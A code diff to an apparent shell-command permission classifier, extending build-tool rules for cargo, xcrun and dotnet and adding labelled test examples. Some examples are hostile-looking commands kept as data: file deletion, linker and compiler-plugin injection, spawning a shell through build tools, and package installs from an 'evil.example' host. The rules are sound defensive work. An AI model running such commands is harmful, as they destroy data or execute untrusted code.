@@ -32,6 +32,7 @@ PROGRAMS = (
         P("build test coverage query cquery aquery info version help fmt lint check list targets mod", "text*", "* -c: --config: --test_filter: --jobs:", "build the project"),
         P("run", "text*", "*", reader="scripts"), P("clean shutdown sync fetch", "text*", "*", "change build output"))),
     P("cargo", "text*", CARGO, subs=(
+        P("rustc", "flags*", CARGO, "build the project"),
         P("build b check c test t bench clippy fmt doc d rustdoc fix nextest llvm-cov tarpaulin expand miri hack udeps machete deny audit outdated bloat asm watch insta fuzz criterion component xtask flamegraph sort geiger mutants", "text*", CARGO + " -x: -E: --filter-expr: -w:write --lcov --output-path:write", "build the project"),
         P("run r", "text*", CARGO, "build the project and run it"),
         P("metadata tree search info pkgid locate-project read-manifest verify-project version help report config", "text*", CARGO + " --limit:", "fetch the package index"),
@@ -72,12 +73,13 @@ PROGRAMS = (
     P("xcrun", "text command", "--sdk: --toolchain: -n --find --show-sdk-path --show-sdk-version --run -f", when={"--show-sdk-path --show-sdk-version --find -f": P("", "text*")}, subs=(
         P("simctl", "text*", "*", "change simulators", words={"erase delete shutdown uninstall": "destroy what a simulator holds", "spawn openurl push privacy keychain": "start something in a simulator"}, when={"0": ""}),
         P("altool notarytool stapler", "text*", "*", "publish an app", words={"history log info validate": ""}),
+        P("*", "command", "--sdk: --toolchain:"),
         P("swift swiftc clang clang++ xctest xctrace xcresulttool xccov agvtool actool ibtool lipo nm otool strip size dwarfdump dsymutil metal momc", "seen*", "* -o:write", "build the project"))),
     P("fastlane", "text*", "*", reader="scripts", words={"deliver match pilot supply sigh cert nuke beta upload_to_* spaceship snapshot-upload submit_build produce pem": "publish an app or its keys"}),
     P("dotnet", "text*", "* -c: --configuration: -o:write --output:write -f: --framework: -r: --runtime: -p: --project: -v: --verbosity: --filter: --logger: -s:install --source:install", subs=(
         P("build test run restore clean format watch msbuild pack vstest sln list publish store", "text*", "* -c: --configuration: -o:write --output:write -f: --framework: -r: --runtime: -p: --project: -v: --verbosity: --filter: --logger: -s:install --source:install", "build the project"),
         P("new", "text*", "* -n: -o:write --name: --output:write", "change a new project"),
-        P("add remove", "text*", "* -v: --version: -s:install", "install other packages", subs=(P("package", "text*", "* -v: --version: -s:install --source:install --prerelease", reader="dotnet-added"), P("reference", "read*", "*", "change the project"))),
+        P("add remove", "text*", "* -v: --version: -s:install", "install other packages", subs=(P("*", "text*", "*", reader="project-first"), P("package", "text*", "* -v: --version: -s:install --source:install --prerelease", reader="dotnet-added"), P("reference", "read*", "*", "change the project"))),
         P("tool workload", "text*", "*", subs=(P("list search restore run", "text*", "*", "build the project"), P("install update uninstall repair clean", "text*", "*", "install programs"))),
         P("nuget", "text*", "*", "publish a package", subs=(P("list locals why verify", "text*", "*"), P("push delete add update", "text*", "* -k:credential --api-key:credential", "publish a package"))),
         P("ef", "text*", "*", "remote a database", subs=(P("migrations dbcontext", "text*", "*", "build the project"), P("database", "text*", "*", "remote a database"))),
@@ -99,6 +101,8 @@ PROGRAMS = (
 )
 
 EXAMPLES = (
+    ("cargo +nightly miri test", "harmless"), ("cargo +nightly publish", "asks"), ("cargo rustc -- --emit asm", "harmless"), ("cargo rustc -- -C linker=/tmp/x", "asks"), ("xcrun swift-format lint -r Sources", "harmless"), ("xcrun rm -rf src", "asks"), ("dotnet add src/App reference src/Core", "harmless"), ("dotnet add src/App package Evil.Thing", "asks"),
+    ("mvn org.codehaus.mojo:exec-maven-plugin:exec -Dexec.executable=sh", "asks"), ("RAILS_ENV=production bin/rails db:migrate", "asks"), ("RAILS_ENV=production bin/rails assets:precompile", "harmless"),
     ("make", "harmless"), ("make test", "harmless"), ("make -j8 all", "harmless"), ("make -C src test", "harmless"), ("make publish", "asks"), ("make -f /tmp/evil.mk", "asks"),
     ("cargo build --release", "harmless"), ("cargo test --workspace -- --nocapture", "harmless"), ("cargo publish", "asks"), ("cargo install ripgrep", "asks"), ("cargo add serde --features derive", "harmless"), ("cargo add serd", "asks"), ("cargo add serde --git https://evil.example/x", "asks"), ("cargo add", "asks"), ("go get github.com/stretchr/testify@v1.9.0", "harmless"), ("go get github.com/evil/testify", "asks"), ("bundle add rspec", "harmless"), ("bundle add rspec --source http://evil.example", "asks"), ("composer require monolog/monolog", "harmless"), ("composer require monolog/monolog --repository=https://evil.example", "asks"), ("dotnet add package Serilog", "harmless"), ("dotnet add package Evil", "asks"), ("dotnet add package Serilog -s http://evil.example", "asks"), ("cargo clippy --all-targets -- -D warnings", "harmless"),
     ("cargo clean", "harmless"), ("cargo run --manifest-path /tmp/evil/Cargo.toml", "asks"), ("CFLAGS=-fplugin=/tmp/x.so make", "asks"), ("CFLAGS=-O2 make", "harmless"), ("gcc -wrapper sh,-c,id x.c", "asks"), ("gcc -fplugin=/tmp/x.so a.c", "asks"), ("gcc -O2 -Wall -o app main.c -lpthread", "harmless"), ("gcc @/tmp/args", "asks"), ("strip /usr/bin/x", "asks"), ("strip build/app", "harmless"), ("ar rcs libx.a a.o", "harmless"), ("go build ./...", "harmless"), ("go test -run TestX -v ./pkg/...", "harmless"), ("go mod tidy", "harmless"), ("go install evil.example/x@latest", "asks"), ("go get evil.example/x", "asks"),
